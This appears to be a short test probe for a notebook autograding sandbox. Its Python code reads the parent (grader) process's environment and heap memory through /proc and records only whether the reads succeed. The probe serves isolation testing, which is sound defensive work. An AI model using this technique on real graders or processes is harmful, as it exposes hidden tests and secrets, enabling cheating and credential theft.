# attack: reads the memory and the environment of the process that started it
# on: empty
# harm: under plain nbgrader that is the grader, with the hidden tests and the gradebook's address
# %%
import contextlib
import os

read = []
parent = os.getppid()
with contextlib.suppress(OSError):
    if open(f"/proc/{parent}/environ", "rb").read(1):
        read.append("environment")
with contextlib.suppress(OSError, ValueError, StopIteration):
    maps = open(f"/proc/{parent}/maps").read().splitlines()
    start = int(next(line for line in maps if "[heap]" in line).split("-")[0], 16)
    with open(f"/proc/{parent}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        if memory.read(16):
            read.append("memory")
